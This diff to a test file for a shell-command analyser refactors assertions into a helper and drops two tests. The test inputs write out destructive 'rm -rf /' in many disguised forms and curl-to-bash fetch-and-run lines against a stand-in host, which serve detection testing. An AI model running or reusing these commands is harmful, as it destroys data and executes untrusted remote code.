@@ -20,6 +20,13 @@ function only(f: BashFacts, name: string): BashCommand {
   return found[found.length - 1];
 }
 
+/** The command line runs `rm -rf /`, and the facts say through what (`via`). */
+function runsRmRoot(command: string, via: string): void {
+  const rm = only(facts(command), 'rm');
+  expect(rm.argv).toEqual(['rm', '-rf', '/']);
+  expect(rm.via).toBe(via);
+}
+
 describe('state that carries a command', () => {
   it.each([
     ['a=(rm -rf /); "${a[@]}"', ['rm', '-rf', '/']],
@@ -123,11 +130,7 @@ describe('command lines carried by options and environment', () => {
     ['screen -dmS x rm -rf /', 'screen'],
     ['sshpass -p pw rm -rf /', 'script'],
     ["sg wheel 'rm -rf /'", 'su -c'],
-  ])('%s', (command, via) => {
-    const rm = only(facts(command), 'rm');
-    expect(rm.argv).toEqual(['rm', '-rf', '/']);
-    expect(rm.via).toBe(via);
-  });
+  ])('%s', runsRmRoot);
 });
 
 describe('files written then run', () => {
@@ -138,11 +141,7 @@ describe('files written then run', () => {
     ["echo 'rm -rf /' | tee a.sh >/dev/null; . ./a.sh", 'script_file'],
     ["echo 'echo hi' > a.sh; echo 'rm -rf /' >> a.sh; source a.sh", 'script_file'],
     ['cd /tmp && echo "rm -rf /" > y && bash y', 'script_file'],
-  ])('%s', (command, via) => {
-    const rm = only(facts(command), 'rm');
-    expect(rm.argv).toEqual(['rm', '-rf', '/']);
-    expect(rm.via).toBe(via);
-  });
+  ])('%s', runsRmRoot);
 
   it('a written python file run by python', () => {
     const f = facts("cat > p.py <<'EOF'\nimport os\nos.system('id')\nEOF\npython3 p.py");
@@ -194,11 +193,7 @@ describe('inline code', () => {
     ['python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\''],
     ["node -e \"require('child_process').spawn('rm', ['-rf', '/'])\""],
     ["python3 -c \"import os; os.execvp('rm', ['-rf', '/'])\""],
-  ])('%s runs a shell command', (command) => {
-    const rm = only(facts(command), 'rm');
-    expect(rm.argv).toEqual(['rm', '-rf', '/']);
-    expect(rm.via).toBe('inline_code');
-  });
+  ])('%s runs a shell command', (command) => runsRmRoot(command, 'inline_code'));
 
   it('code read from a pipe', () => {
     const code = only(facts("echo 'import socket' | python3"), 'python3').inline_code;
@@ -225,15 +220,6 @@ describe('documented examples', () => {
   it('here-string with a substitution flows into the shell', () => {
     const f = facts('bash <<< "$(curl -s http://x.io/a)"');
     expect(f.flows).toContainEqual({ from: only(f, 'curl').id, to: only(f, 'bash').id, kind: 'here_string' });
-    expect(f.signals).toContain('fetch_to_shell');
-  });
-
-  it('tee into >(sh)', () => {
-    expect(facts('curl -s http://x.io/a | tee >(sh) > /dev/null').signals).toContain('fetch_to_shell');
-  });
-
-  it('bash < <(curl …)', () => {
-    const f = facts('bash < <(curl -s http://x.io/a)');
     expect(f.signals).toContain('fetch_to_shell');
   });
 });
